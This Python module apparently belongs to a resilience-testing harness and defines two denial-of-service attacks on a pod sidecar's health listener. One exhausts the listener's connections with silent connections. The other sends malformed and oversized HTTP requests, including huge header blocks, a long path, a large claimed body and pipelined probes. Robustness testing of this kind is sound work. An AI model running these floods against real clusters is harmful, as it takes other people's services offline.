"""Attacks on a pod's sidecar, whose health listener every pod of the cluster can reach."""

from __future__ import annotations

from ..core.hand import Hand, Slot
from ..core.wire import request
from .payloads import MIB
from .registry import attack

_LINE = b"X-Filler: " + b"f" * 1000 + b"\r\n"


@attack("sidecar", (300, 1_000), short=(1,))
async def sidecar_silent(hand: Hand) -> None:
    """Wants a pod to be unready, or never to start: silent connections take all places of the health listener."""

    async def one(slot: Slot) -> None:
        async with hand.connection("health", slot) as connection:
            await hand.until_ended(connection)

    await hand.each(one)


@attack("sidecar", (300, 1_000), short=(200,))
async def sidecar_heads(hand: Hand) -> None:
    """Wants the same, or the sidecar killed for its 16 MiB: half requests, big heads, bodies, pipelined probes that
    nobody reads."""
    head = b"GET /ready HTTP/1.1\r\nHost: a\r\n"
    parts = (
        b"G",
        head,
        head + _LINE * 15,
        head + _LINE * 1000,
        head + b"a:b\r\n" * 5000,
        request("GET", "/ready", None, {"Content-Length": str(MIB)}) + b"x" * 100_000,
        b"GET /" + b"p" * 100_000 + b" HTTP/1.1\r\n",
        (head + b"\r\n") * 500,
    )

    async def one(slot: Slot) -> None:
        async with hand.connection("health", slot, receive_buffer=2048) as connection:
            await hand.send(connection, parts[slot.number % len(parts)])
            await hand.until_ended(connection)

    await hand.each(one)
